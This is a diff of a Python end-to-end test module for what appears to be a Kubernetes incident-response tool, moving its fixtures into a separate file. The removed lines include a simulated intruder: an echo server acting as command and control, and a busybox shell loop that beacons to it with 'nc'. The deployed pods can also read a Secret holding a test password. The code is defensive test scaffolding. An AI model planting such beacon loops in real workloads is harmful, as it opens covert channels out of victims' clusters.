@@ -1,11 +1,4 @@
-"""A small shop on a real cluster, broken into: what the end-to-end tests attack, and how they look at an incident.
-
-Every pod of the Deployment `web` serves its own name over HTTP and talks to the intruder's command and control, once
-over a connection that stays open (`/beacon/stream` grows with every line that comes back) and again and again over new
-ones (`/beacon/knocks`). The files lie outside of the paths that are captured, so that evidence does not change while it
-is read. The pods run as the account `web`, which may read config maps and the Secret `database`; that one is opted in
-for rotation and reaches the pods as the variable DB_PASSWORD.
-"""
+"""A small shop on a real cluster, broken into: how the end-to-end tests attack it and look at an incident."""
 
 import json
 import re
@@ -17,42 +10,7 @@ from typing import Any
 from cluster.commands import run
 from cluster.waiting import wait_until
 from installed import Kubectl
-
-IMAGE = "firebreak:dev"  # has a Python, which the intruder's server is written in
-PORT = 8080
-C2_PORT = 4444
-
-# Says every line back, on as many connections as there are.
-ECHO = f"""
-import asyncio
-async def echo(reader, writer):
-    try:
-        while line := await reader.readline():
-            writer.write(line)
-            await writer.drain()
-    except OSError:
-        pass
-    writer.close()
-async def main():
-    async with await asyncio.start_server(echo, "0.0.0.0", {C2_PORT}) as server:
-        await server.serve_forever()
-asyncio.run(main())
-"""
-
-# {c2} is an address: the cluster may have no name service.
-BEACON = """
-mkdir -p /beacon
-hostname > /srv/www/index.html
-while :; do
-  while echo alive; do usleep 50000; done | nc {c2} {port} >> /beacon/stream
-  usleep 100000
-done &
-while :; do
-  echo knock | timeout 1 nc {c2} {port} >> /beacon/knocks
-  usleep 50000
-done &
-exec httpd -f -p {http} -h /srv/www
-"""
+from shop_objects import PORT, incident, manifests, pod_spec
 
 
 @dataclass(frozen=True)
@@ -61,104 +19,6 @@ class Talk:
 
     stream: int
     knocks: int
-
-
-def listener(name: str) -> dict[str, Any]:
-    """The intruder's command and control: a pod that says every line back."""
-    return {
-        "apiVersion": "v1",
-        "kind": "Pod",
-        "metadata": {"name": name, "labels": {"app": name}},
-        "spec": {
-            "terminationGracePeriodSeconds": 0,
-            "automountServiceAccountToken": False,
-            "containers": [
-                {
-                    "name": "listen",
-                    "image": IMAGE,
-                    "imagePullPolicy": "IfNotPresent",
-                    "command": ["python", "-c", ECHO],
-                    "readinessProbe": {"tcpSocket": {"port": C2_PORT}, "periodSeconds": 1},
-                }
-            ],
-        },
-    }
-
-
-def pod_spec(c2: str) -> dict[str, Any]:
-    """What a pod of the shop runs; `c2` is the address of the command and control."""
-    script = BEACON.format(c2=c2, port=C2_PORT, http=PORT)
-    return {
-        "serviceAccountName": "web",
-        "terminationGracePeriodSeconds": 1,
-        "containers": [
-            {
-                "name": "app",
-                "image": "busybox:1.35",
-                "imagePullPolicy": "IfNotPresent",
-                "workingDir": "/srv/www",
-                "command": ["sh", "-c", script],
-                "ports": [{"containerPort": PORT}],
-                "env": [
-                    {
-                        "name": "DB_PASSWORD",
-                        "valueFrom": {"secretKeyRef": {"name": "database", "key": "password"}},
-                    }
-                ],
-                "readinessProbe": {"httpGet": {"path": "/", "port": PORT}, "periodSeconds": 1},
-            }
-        ],
-    }
-
-
-def manifests(c2: str, *, replicas: int = 2) -> list[dict[str, Any]]:
-    """The shop: account with rights, a secret opted in for rotation, Deployment and Service."""
-    labels = {"app": "web"}
-    template = {"metadata": {"labels": labels}, "spec": pod_spec(c2)}
-    rules = [
-        {"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get", "list"]},
-        {"apiGroups": [""], "resources": ["secrets"], "resourceNames": ["database"], "verbs": ["get"]},
-    ]
-    rbac = "rbac.authorization.k8s.io/v1"
-    return [
-        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "web"}},
-        {"apiVersion": rbac, "kind": "Role", "metadata": {"name": "web"}, "rules": rules},
-        {
-            "apiVersion": rbac,
-            "kind": "RoleBinding",
-            "metadata": {"name": "web"},
-            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "web"},
-            "subjects": [{"kind": "ServiceAccount", "name": "web"}],
-        },
-        {
-            "apiVersion": "v1",
-            "kind": "Secret",
-            "metadata": {"name": "database", "annotations": {"firebreak.dev/rotate": '{"password": {"length": 24}}'}},
-            "stringData": {"password": "swordfish"},
-        },
-        {
-            "apiVersion": "apps/v1",
-            "kind": "Deployment",
-            "metadata": {"name": "web"},
-            "spec": {"replicas": replicas, "selector": {"matchLabels": labels}, "template": template},
-        },
-        {
-            "apiVersion": "v1",
-            "kind": "Service",
-            "metadata": {"name": "web"},
-            "spec": {"selector": labels, "ports": [{"port": 80, "targetPort": PORT}]},
-        },
-    ]
-
-
-def incident(name: str, target: dict[str, Any], **spec: Any) -> dict[str, Any]:
-    """An Incident about a target, such as {"pod": NAME}; `spec` adds fields such as playbook."""
-    return {
-        "apiVersion": "firebreak.dev/v1alpha1",
-        "kind": "Incident",
-        "metadata": {"name": name},
-        "spec": {"target": target, **spec},
-    }
 
 
 @dataclass(frozen=True)
@@ -208,6 +68,11 @@ class Shop:
         """The names of the pods with these labels that are not on their way out."""
         found = [item["metadata"] for item in self.get("pods", "--selector", selector)["items"]]
         return sorted(metadata["name"] for metadata in found if "deletionTimestamp" not in metadata)
+
+    def labels(self, pod: str) -> dict[str, str]:
+        """A pod's labels."""
+        found: dict[str, str] = self.get("pod", pod)["metadata"].get("labels", {})
+        return found
 
     def exec(self, pod: str, *command: str) -> str:
         """Run a command in a pod: quarantine does not stop that."""
